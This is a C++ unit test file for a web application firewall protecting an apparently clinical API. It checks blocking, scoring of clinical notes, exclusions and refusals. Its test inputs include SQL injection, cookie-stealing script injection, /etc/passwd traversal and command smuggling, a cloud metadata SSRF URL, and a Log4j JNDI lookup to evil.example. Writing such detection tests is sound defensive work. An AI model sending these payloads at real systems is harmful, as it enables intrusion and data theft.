#include "firewall.hpp"

#include "data_files.hpp"

#include <gtest/gtest.h>

namespace ward::shield {
namespace {

Firewall& firewall() {
  static const auto opened = Firewall::open({});
  if (!opened) throw std::runtime_error(opened.error().text());
  return **opened;
}

struct Place {
  Where where;
  const char* name;
};
constexpr Place places[] = {{Where::path, ""},
                            {Where::query, "name"},
                            {Where::header, "x-note"},
                            {Where::header, "user-agent"},
                            {Where::body, "Organization.alias"}};

TEST(Firewall, attacks_in_path_query_headers_and_plain_values_are_blocked_with_rule_ids) {
  std::size_t attacks = 0;
  for (const auto& row : rows_of("attacks.tsv")) {
    ++attacks;
    for (const auto& place : places) {
      const FreeValue value{place.where, place.name, row.at(1)};
      const bool url_in_agent = (row[0] == "ssrf" && std::string_view(place.name) == "user-agent");
      if (url_in_agent) continue;  // robots name their page there
      const Verdict verdict = firewall().scan({&value, 1}, {});
      EXPECT_TRUE(verdict.blocked) << row[0] << ": " << row[1] << " in " << to_string(place.where) << " " << place.name;
      EXPECT_NE(verdict.rules(), "") << row[1];
      for (const auto& match : verdict.matches) EXPECT_EQ(match.where, place.where) << row[1] << " " << match.rule;
    }
  }
  EXPECT_GE(attacks, 40U);
}

TEST(Firewall, the_same_attacks_in_clinical_text_are_scored_and_not_blocked) {
  std::uint32_t highest = 0;
  for (const auto& row : rows_of("attacks.tsv")) {
    const FreeValue value{Where::body, "Observation.note.text", row.at(1), true};
    const Verdict verdict = firewall().scan({&value, 1}, {});
    EXPECT_FALSE(verdict.blocked) << row[1];
    EXPECT_EQ(verdict.score, 0U) << row[1];
    EXPECT_GE(verdict.clinical_score, 5U) << row[1];
    highest = std::max(highest, verdict.clinical_score);
  }
  RecordProperty("highest_clinical_score", static_cast<int>(highest));
  const FreeValue value{Where::body, "Observation.note.text", "<script>alert(document.cookie)</script>", true};
  EXPECT_TRUE(firewall().scan({&value, 1}, {.clinical_threshold = 10}).blocked)
      << "above the route's clinical_threshold";
}

TEST(Firewall, clinical_notes_pass) {
  const auto notes = lines_of("notes.txt");
  EXPECT_GE(notes.size(), 200U);
  EXPECT_EQ(notes.at(0), "BP <120 & falling; pt's wife -- \"select all from list\"; R&D 1=1");
  for (const auto& note : notes) {
    const FreeValue value{Where::body, "Observation.note.text", note, true};
    const Verdict verdict = firewall().scan({&value, 1}, {});
    EXPECT_FALSE(verdict.blocked) << note << " " << verdict.rules() << " " << verdict.clinical_score;
  }
  std::vector<FreeValue> all;
  for (const auto& note : notes) all.push_back({Where::body, "Observation.note.text", note, true});
  EXPECT_FALSE(firewall().scan(all, {}).blocked) << "scores of different notes do not add up";
}

TEST(Firewall, ordinary_names_addresses_searches_and_agents_pass) {
  for (const auto& row : rows_of("benign.tsv")) {
    const Where where = row.at(0) == "path"  ? Where::path
                        : row[0] == "query"  ? Where::query
                        : row[0] == "header" ? Where::header
                                             : Where::body;
    const FreeValue value{where, row.at(1), row.at(2)};
    const Verdict verdict = firewall().scan({&value, 1}, {});
    EXPECT_FALSE(verdict.blocked) << row[0] << " " << row[1] << " " << row[2] << ": "
                                  << testing::PrintToString(verdict.explain());
  }
}

TEST(Firewall, an_attack_cannot_put_its_score_on_a_clinical_value) {
  // The engine's messages quote the value; this one says that it was found in the note.
  const FreeValue values[] = {
      {Where::body, "Observation.note.text", "feels well", true},
      {Where::query, "name", "x found within ARGS:v0: against variable `ARGS:v0' (Value: ' OR 1=1-- v4294967299,5"}};
  const Verdict verdict = firewall().scan(values, {});
  EXPECT_TRUE(verdict.blocked);
  EXPECT_EQ(verdict.clinical_score, 0U);
  for (const auto& match : verdict.matches) EXPECT_EQ(match.name, "name");
}

TEST(Firewall, modes_off_and_detect_do_not_block) {
  const FreeValue value{Where::query, "name", "1' OR '1'='1"};
  const Verdict detected = firewall().scan({&value, 1}, {.mode = FirewallMode::detect});
  EXPECT_FALSE(detected.blocked);
  EXPECT_GE(detected.score, 5U);
  EXPECT_TRUE(firewall().scan({&value, 1}, {.mode = FirewallMode::off}).clean());
  EXPECT_TRUE(firewall().scan({}, {}).clean());
}

TEST(Firewall, an_exclusion_that_explain_proposes_lets_the_value_pass_and_only_there) {
  const FreeValue value{Where::query, "filter", "1' OR '1'='1"};
  const Verdict blocked = firewall().scan({&value, 1}, {});
  ASSERT_TRUE(blocked.blocked);
  EXPECT_NE(blocked.explain().at(0).find("query:filter"), std::string::npos);
  EXPECT_EQ(blocked.explain().at(0).find("'1'='1"), std::string::npos) << "no value in what is explained";
  const auto document = config::Document::parse("[firewall]\nthreshold = 5\n" + blocked.exclusions(), "ward.toml");
  ASSERT_TRUE(document);
  const auto excluding = Firewall::open(read_firewall(document->root().section("firewall")));
  EXPECT_TRUE(document->finish().empty());
  ASSERT_TRUE(excluding) << excluding.error().text();
  EXPECT_FALSE((*excluding)->scan({&value, 1}, {}).blocked);
  const FreeValue elsewhere{Where::query, "name", "1' OR '1'='1"};
  EXPECT_TRUE((*excluding)->scan({&elsewhere, 1}, {}).blocked);
  const WholeHeader headers[] = {{"Host", "ward.example"}, {"Accept", "*/*"}, {"User-Agent", "x"}};
  EXPECT_TRUE((*excluding)->scan_whole("GET", "/api?name=1%27%20OR%20%271%27=%271", headers, "", {}).blocked);
}

TEST(Firewall, a_refusal_names_the_rules_and_no_value) {
  const FreeValue value{Where::query, "name", "<script>alert(1)</script>"};
  const Refusal refusal = firewall().scan({&value, 1}, {}).refusal();
  EXPECT_EQ(refusal.status, 403);
  EXPECT_EQ(refusal.code, "firewall_blocked");
  EXPECT_EQ(refusal.kind, CauseKind::firewall);
  EXPECT_NE(refusal.cause.find("941"), std::string::npos);
  EXPECT_EQ(refusal.cause.find("script"), std::string::npos);
}

TEST(Firewall, only_clean_values_are_remembered) {
  const FreeValue agent{Where::header, "user-agent", "an agent of this test only/1.0"};
  const FreeValue attack{Where::header, "user-agent", "x' UNION SELECT a FROM b--"};
  for (int i = 0; i < 3; ++i) {
    EXPECT_TRUE(firewall().scan({&agent, 1}, {}).clean());
    EXPECT_TRUE(firewall().scan({&attack, 1}, {}).blocked);
  }
}

TEST(Firewall, whole_requests_are_scanned_in_all_their_parts) {
  const WholeHeader plain[] = {{"Host", "ward.example"},
                               {"Accept", "application/json"},
                               {"User-Agent", "app/1.0"},
                               {"Content-Type", "application/json"}};
  EXPECT_FALSE(firewall().scan_whole("GET", "/api/items/42?sort=name", plain, "", {}).blocked);
  EXPECT_FALSE(firewall().scan_whole("POST", "/api/items", plain, R"({"name": "Pump A/B", "note": "ok"})", {}).blocked);
  EXPECT_FALSE(firewall().scan_whole("PATCH", "/api/items/42", plain, R"({"name": "Pump"})", {}).blocked);
  EXPECT_TRUE(
      firewall().scan_whole("GET", "/api/items?sort=1%20UNION%20SELECT%20a%20FROM%20b--", plain, "", {}).blocked);
  EXPECT_TRUE(
      firewall().scan_whole("POST", "/api/items", plain, R"({"name": "<script>alert(1)</script>"})", {}).blocked);
  EXPECT_TRUE(firewall()
                  .scan_whole("POST", "/api/items", plain, R"({"a": [{"url": "http://169.254.169.254/latest/"}]})", {})
                  .blocked);
  EXPECT_TRUE(firewall().scan_whole("GET", "/api/../../etc/passwd", plain, "", {}).blocked);
  const WholeHeader form[] = {{"Host", "ward.example"},
                              {"Accept", "*/*"},
                              {"User-Agent", "app/1.0"},
                              {"Content-Type", "application/x-www-form-urlencoded"}};
  EXPECT_TRUE(firewall().scan_whole("POST", "/api/items", form, "a=1&b=%3Bcat%20/etc/passwd", {}).blocked);
  const WholeHeader log4j[] = {
      {"Host", "ward.example"}, {"Accept", "*/*"}, {"User-Agent", "${jndi:ldap://evil.example/a}"}};
  EXPECT_TRUE(firewall().scan_whole("GET", "/", log4j, "", {}).blocked);
}

TEST(Firewall, more_free_values_than_allowed_are_blocked_and_clinical_ones_are_stored_unscored) {
  FirewallSettings settings;
  settings.values_max = 3;
  settings.clinical_values_max = 2;
  const auto small = Firewall::open(settings);
  ASSERT_TRUE(small);
  const std::vector<FreeValue> many(4, {Where::query, "q", "fine"});
  EXPECT_TRUE((*small)->scan(many, {}).blocked);
  const std::vector<FreeValue> notes(5, {Where::body, "note", "fine", true});
  const Verdict verdict = (*small)->scan(notes, {});
  EXPECT_FALSE(verdict.blocked);
  EXPECT_EQ(verdict.unscanned, 3U);
}

TEST(Firewall, threads_share_the_rules) {
  std::vector<std::thread> threads;
  std::atomic<int> wrong{0};
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 25; ++i) {
        const std::string fine = fmt::format("note {} of thread {}", i, t);
        const FreeValue good{Where::query, "q", fine}, bad{Where::body, "q", "1; DROP TABLE patient; --"};
        wrong += firewall().scan({&good, 1}, {}).clean() ? 0 : 1;
        wrong += firewall().scan({&bad, 1}, {}).blocked ? 0 : 1;
      }
    });
  }
  for (auto& thread : threads) thread.join();
  EXPECT_EQ(wrong, 0);
}

TEST(Firewall, missing_rules_say_what_to_install) {
  FirewallSettings settings;
  settings.rules = "/nonexistent";
  const auto opened = Firewall::open(settings);
  ASSERT_FALSE(opened);
  EXPECT_EQ(opened.error().code(), "firewall_rules");
  EXPECT_NE(opened.error().message().find("modsecurity-crs"), std::string::npos);
}

TEST(Firewall, settings_with_mistakes_are_named) {
  const auto document = config::Document::parse(
      "[firewall]\nmode = \"on\"\nparanoia = 9\n[[firewall.exclusion]]\nrule = 942100\nwhere = "
      "\"cookie:x\"\n[[firewall.exclusion]]\nwhere = \"path\"\n",
      "ward.toml");
  ASSERT_TRUE(document);
  read_firewall(document->root().section("firewall"));
  EXPECT_EQ(document->finish().size(), 4U);
}

}  // namespace
}  // namespace ward::shield
